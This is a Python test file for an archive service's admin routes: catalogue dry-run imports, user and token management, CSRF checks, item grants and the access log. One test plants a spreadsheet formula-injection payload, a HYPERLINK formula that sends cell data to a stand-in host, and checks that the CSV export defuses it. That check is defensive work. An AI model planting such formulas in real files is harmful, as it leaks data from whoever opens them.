"""The routes of the 管理 and 目录导入 screens: people, API tokens, grants, the catalogue's check (dry run),
separator sheets for chosen items, the access log paged — roles, CSRF with the login cookie, bad input."""

from __future__ import annotations

import io
from pathlib import Path
from urllib.parse import quote

import pikepdf
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from scanner_service.api.app import create_app
from scanner_service.archive import people
from scanner_service.archive.db import session_scope
from scanner_service.archive.models import Event, Fonds, Grant, Item
from scanner_service.settings import Settings
from tests.test_api import token

PASSWORD = "korrekt-pferd-7"
GOOD = (
    "序号,档号,题名,页数,密级\n1,C015-WS·2013-Y-BGS-0001,村民委员会会议记录,3,\n"
    "2,C015-WS·2013-Y-BGS-0002,土地承包合同,2,秘密\n"
)
BAD = GOOD + "3,C015-WS·2013-X-BGS-0003,养老保险名册,2,\n4,C015-WS·2013-Y-BGS-0004,,2,\n"


@pytest.fixture
def client(station_env: Settings) -> TestClient:
    return TestClient(create_app(station_env))


@pytest.fixture(autouse=True)
def _no_unknown_names_counted() -> None:
    people._unknown.clear()


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() and "redis" not in p.parts}


def _counts(settings: Settings) -> tuple[int, int, int]:
    with session_scope(settings.effective_database_url) as session:
        return (
            session.scalar(select(func.count()).select_from(Item)) or 0,
            session.scalar(select(func.count()).select_from(Fonds)) or 0,
            session.scalar(select(func.count()).select_from(Event)) or 0,
        )


def _import(client: TestClient, body: str, headers: dict[str, str], **params: str) -> dict:
    reply = client.post(
        "/api/catalogue", params={"filename": "目录.csv", **params}, content=body.encode(), headers=headers
    )
    assert reply.status_code == 200, reply.text
    return reply.json()


def test_a_dry_run_lists_every_bad_row_in_chinese_with_200_and_stores_nothing(
    client: TestClient, station_env: Settings
) -> None:
    archivist = token(station_env, "archivist")
    before = _files(station_env.data)
    checked = _import(client, BAD, archivist, dry_run="true")
    assert checked["dry_run"] is True
    assert [(e["row"], e["column"]) for e in checked["errors"]] == [(4, "档号"), (5, "题名")]
    assert "保管期限只能是 Y" in checked["errors"][0]["message_zh"]
    assert "题名为空" in checked["errors"][1]["message_zh"]
    assert _counts(station_env) == (0, 0, 0) and _files(station_env.data) == before, "nothing stored"

    clean = _import(client, GOOD, archivist, dry_run="true")
    assert (clean["errors"], clean["rows"], clean["created"], clean["updated"]) == ([], 2, 2, 0)
    assert _counts(station_env) == (0, 0, 0) and _files(station_env.data) == before, "a clean check stores nothing"

    done = _import(client, GOOD, archivist)
    assert (done["created"], done["updated"], done["dry_run"]) == (2, 0, False)
    again = _import(client, GOOD.replace("土地承包合同", "土地承包合同书"), archivist, dry_run="true")
    assert (again["created"], again["updated"]) == (0, 2)
    # Without dry_run a bad file is still refused whole, with the Chinese sentence as well.
    reply = client.post("/api/catalogue", params={"filename": "目录.csv"}, content=BAD.encode(), headers=archivist)
    assert reply.status_code == 422 and reply.json()["errors"][0]["message_zh"]
    # A whole-file problem is a row-less error of the check; another fonds than the caller's is one too.
    blank = _import(client, "\n\n", archivist, dry_run="true")
    assert blank["errors"][0]["row"] is None and "空" in blank["errors"][0]["message_zh"]
    reply = client.post("/api/catalogue", params={"filename": "a.csv", "dry_run": "true"}, headers=archivist)
    assert reply.status_code == 422, "no body at all is no file to check"
    with session_scope(station_env.effective_database_url) as session:
        from scanner_service.archive.tokens import create_token

        secret = create_token(session, role="archivist", fonds="C016")
    limited = {"Authorization": f"Bearer {secret}"}
    outside = _import(client, GOOD, limited, dry_run="true")
    assert outside["errors"][0]["row"] == 2 and "C015" in outside["errors"][0]["message_zh"]
    assert (
        client.post(
            "/api/catalogue",
            params={"filename": "a.csv", "dry_run": "true"},
            content=b"x",
            headers=token(station_env, "operator"),
        ).status_code
        == 403
    )


def test_separator_sheets_for_chosen_items(client: TestClient, station_env: Settings) -> None:
    archivist = token(station_env, "archivist")
    _import(client, GOOD + "3,C015-WS·2013-Y-BGS-0003,第三件,1,\n", archivist)
    reply = client.get(
        "/api/catalogue/separators",
        params=[("fonds", "C015"), ("code", "C015-WS·2013·Y·BGS-0003"), ("code", "C015-WS·2013-Y-BGS-0001")],
        headers=archivist,
    )
    assert reply.status_code == 200 and reply.headers["content-type"] == "application/pdf"
    with pikepdf.open(io.BytesIO(reply.content)) as pdf:
        assert len(pdf.pages) == 2
    unknown = client.get(
        "/api/catalogue/separators", params=[("fonds", "C015"), ("code", "C015-WS·2013-Y-BGS-0009")], headers=archivist
    )
    assert unknown.status_code == 404 and "0009" in unknown.json()["detail"]
    wrong = client.get("/api/catalogue/separators", params=[("fonds", "C015"), ("code", "C015-WS")], headers=archivist)
    assert wrong.status_code == 422


def test_people_are_managed_by_admins_and_their_changes_take_effect(client: TestClient, station_env: Settings) -> None:
    admin = token(station_env, "admin")
    for role in ("archivist", "operator", "reader"):
        assert client.get("/api/users", headers=token(station_env, role)).status_code == 403
    created = client.post(
        "/api/users",
        json={"name": "王安娜", "role": "operator", "password": PASSWORD, "fonds": ["c015"]},
        headers=admin,
    )
    assert created.status_code == 201, created.text
    assert created.json() | {"created_at": None} == {
        "name": "王安娜",
        "role": "operator",
        "fonds": ["C015"],
        "disabled": False,
        "locked_until": None,
        "created_at": None,
        "last_login_at": None,
    }
    assert "password" not in created.text
    again = client.post("/api/users", json={"name": "王安娜", "role": "reader", "password": PASSWORD}, headers=admin)
    assert again.status_code == 409
    weak = client.post("/api/users", json={"name": "李明", "role": "reader", "password": "short"}, headers=admin)
    assert weak.status_code == 422 and weak.json()["reason"] == "weak_password"
    bad_role = client.post("/api/users", json={"name": "李明", "role": "boss", "password": PASSWORD}, headers=admin)
    assert bad_role.status_code == 422
    assert [u["name"] for u in client.get("/api/users", headers=admin).json()] == ["王安娜"]

    person = TestClient(client.app)
    assert person.post("/api/session", json={"name": "王安娜", "password": PASSWORD}).status_code == 200
    name = quote("王安娜")
    changed = client.patch(f"/api/users/{name}", json={"role": "archivist", "fonds": []}, headers=admin)
    assert changed.json()["role"] == "archivist" and changed.json()["fonds"] == []
    assert person.get("/api/session").json()["role"] == "archivist", "the new role at the next request"
    assert client.patch(f"/api/users/{name}", json={"disabled": True}, headers=admin).json()["disabled"] is True
    assert person.get("/api/session").status_code == 401, "disabling ends the person's logins"
    assert person.post("/api/session", json={"name": "王安娜", "password": PASSWORD}).status_code == 401
    client.patch(f"/api/users/{name}", json={"disabled": False, "password": "一个新的密码12345"}, headers=admin)
    assert person.post("/api/session", json={"name": "王安娜", "password": "一个新的密码12345"}).status_code == 200
    assert client.patch("/api/users/nobody", json={"disabled": True}, headers=admin).status_code == 404
    assert client.patch(f"/api/users/{name}", json={"disabled": "yes"}, headers=admin).status_code == 422
    assert client.patch(f"/api/users/{name}", json={"fonds": ["C0 15"]}, headers=admin).status_code == 422


def test_an_admin_at_the_page_cannot_lock_themselves_out_and_changes_need_the_csrf_token(
    client: TestClient, station_env: Settings
) -> None:
    with session_scope(station_env.effective_database_url) as session:
        people.create_user(session, name="lin", role="admin", password=PASSWORD, settings=station_env)
    csrf = client.post("/api/session", json={"name": "lin", "password": PASSWORD}).json()["csrf_token"]
    body = {"name": "赵", "role": "reader", "password": PASSWORD}
    refused = client.post("/api/users", json=body)
    assert refused.status_code == 403 and refused.json()["reason"] == "csrf"
    assert client.post("/api/tokens", json={"role": "reader"}).json()["reason"] == "csrf"
    assert client.post("/api/users", json=body, headers={"X-CSRF-Token": csrf}).status_code == 201
    own = client.patch("/api/users/lin", json={"disabled": True}, headers={"X-CSRF-Token": csrf})
    assert own.status_code == 409 and own.json()["reason"] == "own_account"
    own = client.patch("/api/users/lin", json={"role": "reader"}, headers={"X-CSRF-Token": csrf})
    assert own.status_code == 409
    assert client.patch("/api/users/lin", json={"role": "admin"}, headers={"X-CSRF-Token": csrf}).status_code == 200


def test_tokens_are_shown_once_listed_without_secret_and_revoked(client: TestClient, station_env: Settings) -> None:
    admin = token(station_env, "admin")
    assert (
        client.post("/api/tokens", json={"role": "reader"}, headers=token(station_env, "archivist")).status_code == 403
    )
    made = client.post("/api/tokens", json={"role": "reader", "fonds": ["C015"], "name": "土地承包查询"}, headers=admin)
    assert made.status_code == 201 and made.headers["cache-control"] == "no-store"
    secret, token_id = made.json()["token"], made.json()["id"]
    listed = client.get("/api/tokens", headers=admin).json()
    mine = next(t for t in listed if t["id"] == token_id)
    assert mine["name"] == "土地承包查询" and mine["fonds"] == ["C015"] and not mine["revoked"]
    assert secret not in str(listed)
    system = {"Authorization": f"Bearer {secret}"}
    assert client.get("/api/items", headers=system).status_code == 200
    assert client.delete(f"/api/tokens/{token_id}", headers=admin).json()["revoked"] is True
    assert client.get("/api/items", headers=system).status_code == 401, "a revoked token opens nothing"
    assert client.delete(f"/api/tokens/{token_id}", headers=admin).status_code == 200, "revoking again: no error"
    assert client.delete("/api/tokens/99999", headers=admin).status_code == 404
    assert client.delete("/api/tokens/0", headers=admin).status_code == 422
    assert client.post("/api/tokens", json={"role": "root"}, headers=admin).status_code == 422


def test_grants_are_listed_and_revoked_by_archivists_of_the_fonds(client: TestClient, station_env: Settings) -> None:
    archivist = token(station_env, "archivist")
    _import(client, GOOD, archivist)
    with session_scope(station_env.effective_database_url) as session:
        people.create_user(session, name="李明", role="reader", password=PASSWORD, settings=station_env)
    code = quote("C015-WS·2013-Y-BGS-0002")
    reader = TestClient(client.app)
    reader.post("/api/session", json={"name": "李明", "password": PASSWORD})
    assert reader.get(f"/api/items/{code}").status_code == 404, "秘密: hidden from a reader"
    made = client.post(
        f"/api/items/{code}/grants", json={"user": "李明", "expires_at": "2099-01-01T00:00:00Z"}, headers=archivist
    )
    assert made.status_code == 201
    assert reader.get(f"/api/items/{code}").status_code == 200
    [listed] = client.get("/api/grants", headers=archivist).json()
    assert (listed["user"], listed["archival_code"], listed["title"], listed["expired"]) == (
        "李明",
        "C015-WS·2013-Y-BGS-0002",
        "土地承包合同",
        False,
    )
    assert client.get("/api/grants", params={"user": "别人"}, headers=archivist).json() == []
    assert (
        len(client.get("/api/grants", params={"archival_code": "C015-WS·2013·Y·BGS-0002"}, headers=archivist).json())
        == 1
    )
    with session_scope(station_env.effective_database_url) as session:
        from scanner_service.archive.tokens import create_token

        other = {"Authorization": "Bearer " + create_token(session, role="archivist", fonds="C016")}
    assert client.get("/api/grants", headers=other).json() == [], "another fonds' archivist sees none"
    assert client.delete(f"/api/grants/{listed['id']}", headers=other).status_code == 404
    for role in ("operator", "reader"):
        assert client.get("/api/grants", headers=token(station_env, role)).status_code == 403
    assert client.delete(f"/api/grants/{listed['id']}", headers=archivist).status_code == 200
    assert reader.get(f"/api/items/{code}").status_code == 404, "revoked: hidden again"
    with session_scope(station_env.effective_database_url) as session:
        assert session.scalar(select(func.count()).select_from(Grant)) == 0
    assert client.delete(f"/api/grants/{listed['id']}", headers=archivist).status_code == 404


def test_the_access_log_pages(client: TestClient, station_env: Settings) -> None:
    archivist = token(station_env, "archivist")
    _import(client, GOOD, archivist)
    with session_scope(station_env.effective_database_url) as session:
        from scanner_service.archive import access
        from scanner_service.archive.access import Caller
        from scanner_service.archive.models import Role

        item = session.scalars(select(Item)).first()
        assert item is not None
        for page in range(1, 6):
            access.log_access(session, Caller(name="李明", role=Role.reader), item, "page_text", page=page)
    first = client.get("/api/access-log", params={"limit": 2}, headers=archivist).json()
    second = client.get("/api/access-log", params={"limit": 2, "offset": 2}, headers=archivist).json()
    assert [r["page"] for r in first + second] == [5, 4, 3, 2]
    csv = client.get("/api/access-log", params={"format": "csv", "who": "李明"}, headers=archivist)
    assert csv.text.startswith("\ufeff时间,利用者") and csv.text.count("李明") == 5


def test_an_admin_is_never_given_fonds_that_would_look_like_a_limit(client: TestClient, station_env: Settings) -> None:
    """An admin sees every fonds whatever is written on it: "管理员 · C016" in the list would be a lie."""
    admin = token(station_env, "admin")
    body = {"name": "村支书", "role": "admin", "password": PASSWORD, "fonds": ["C016"]}
    refused = client.post("/api/users", json=body, headers=admin)
    assert refused.status_code == 422 and refused.json()["reason"] == "admin_fonds"
    refused = client.post("/api/tokens", json={"role": "admin", "fonds": ["C016"]}, headers=admin)
    assert refused.status_code == 422 and refused.json()["reason"] == "admin_fonds"
    assert client.get("/api/users", headers=admin).json() == []
    made = client.post("/api/users", json={**body, "role": "archivist"}, headers=admin)
    assert made.status_code == 201
    promoted = client.patch(f"/api/users/{quote('村支书')}", json={"role": "admin"}, headers=admin)
    assert promoted.status_code == 422 and promoted.json()["reason"] == "admin_fonds"
    assert client.get("/api/users", headers=admin).json()[0]["role"] == "archivist", "nothing changed"
    promoted = client.patch(f"/api/users/{quote('村支书')}", json={"role": "admin", "fonds": []}, headers=admin)
    assert promoted.status_code == 200 and promoted.json()["fonds"] == []


def test_the_access_log_csv_opens_in_excel_without_running_what_a_reader_typed(
    client: TestClient, station_env: Settings
) -> None:
    """利用目的 is typed by any reader (?purpose=); a cell starting with = + - @ is a formula in Excel."""
    archivist = token(station_env, "archivist")
    _import(client, GOOD, archivist)
    evil = '=HYPERLINK("http://example.org/?"&A1,"查看")'
    with session_scope(station_env.effective_database_url) as session:
        from scanner_service.archive import access
        from scanner_service.archive.access import Caller
        from scanner_service.archive.models import Role

        item = session.scalars(select(Item)).first()
        assert item is not None
        access.log_access(session, Caller(name="@SUM(1+1)", role=Role.reader), item, "pdf", purpose=evil)
    csv_text = client.get("/api/access-log", params={"format": "csv"}, headers=archivist).text
    import csv as csv_module

    [row] = list(csv_module.reader(io.StringIO(csv_text.lstrip("\ufeff"))))[1:]
    assert row[1] == "'@SUM(1+1)" and row[8] == "'" + evil, row
    assert row[4] == "C015-WS·2013-Y-BGS-0001", "ordinary cells are as they are"
    json_rows = client.get("/api/access-log", headers=archivist).json()
    assert json_rows[0]["purpose"] == evil, "the JSON keeps what was typed"
